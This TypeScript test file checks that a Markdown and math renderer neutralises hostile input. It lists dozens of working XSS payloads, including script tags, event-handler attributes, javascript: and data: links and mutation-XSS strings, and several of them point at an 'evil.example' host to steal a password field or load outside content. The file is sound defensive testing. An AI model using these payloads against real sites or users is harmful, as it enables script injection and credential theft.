import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render-markdown.ts";
import { expectInert } from "./testing/expect-inert.ts";

const attacks = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</pre></code></p><script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)><use href='data:image/svg+xml,x'/></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<form action=//evil.example><input name=password>",
  "<style>@import '//evil.example'</style>",
  "<base href='//evil.example'>",
  "<!--><script>alert(1)</script>-->",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://evil.example/1)",
  "[x](//evil.example)",
  "[x](/\\evil.example)",
  "[x](</\t/evil.example>)",
  "[x](\\\\evil.example)",
  "[x](https:evil.example)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "![x](//evil.example/a.png)",
  '![x" onerror="alert(1)](/a.png)',
  '[x](/a "t\\" onclick=\\"alert(1)")',
  "[x]: javascript:alert(1)\n\n[x]",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  "```math\n</annotation><script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "$</annotation></semantics></math><script>alert(1)</script>$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$\\includegraphics{https://evil.example/a.png}$",
  "$\\htmlData{x=y}{z} \\htmlClass{a}{b} \\htmlId{c}{d} \\htmlStyle{color:red}{e}$",
  "$\\color{red;background:url(//evil.example)}x$",
  "$\\unknown<script>$",
  "|<script>|\n|-|\n|<img onerror=alert(1)>|",
  "\u2028<script>\u2029</script>",
  "\u0000<script>alert(1)</script>",
];

describe("attacks", () => {
  it.each(attacks)("%j comes out inert", (attack) => {
    expectInert(renderMarkdown(attack));
    expectInert(renderMarkdown(`- > **${attack}**`));
  });

  it("recognises a tag, a link and a style that are not inert, so that the tests above can fail", () => {
    for (const html of [
      "<b onclick='x'>",
      '<a href="//x">',
      '<a href="javascript:x">',
      "<script>",
      '<img src="https://x">',
    ]) {
      expect(() => expectInert(html)).toThrow();
    }
    expect(() => expectInert('<span style="background:url(x)">')).toThrow();
  });

  it("holds for anything put together from their pieces", () => {
    const pieces = attacks.flatMap((attack) => attack.split(/(?<=[<>()[\]$"'`:/\\{}])/));
    const texts = fc.array(fc.constantFrom(...pieces, "\n", "$", "$$", "**", "> ", "- "), { maxLength: 30 });
    fc.assert(
      fc.property(texts, (parts) => expectInert(renderMarkdown(parts.join("")))),
      { numRuns: 300, seed: 40 },
    );
  }, 60_000);

  it("does without inline styles outside of formulas", () => {
    for (const attack of attacks.filter((it) => !/[$]|```math/.test(it)))
      expect(renderMarkdown(attack)).not.toContain("style=");
  });
});

describe("formulas of strangers", () => {
  it("shows the source of a formula that cannot be read", () => {
    expect(renderMarkdown("$\\frac{1}{<b>$")).toBe('<p><code class="math-error">\\frac{1}{&#x3C;b></code></p>');
  });

  it("lets no definition reach the next formula or the next text", () => {
    const [first, second] = renderMarkdown("$\\gdef\\stone{7}\\stone$\n\n$\\stone$").split("\n");
    expect(first).toContain("<mn>7</mn>");
    expect(second).toBe('<p><code class="math-error">\\stone</code></p>');
    expect(renderMarkdown("$\\stone$")).toContain("math-error");
    expect(renderMarkdown("$\\gdef\\pi{7}$ $\\pi$")).toContain("π");
  });
});
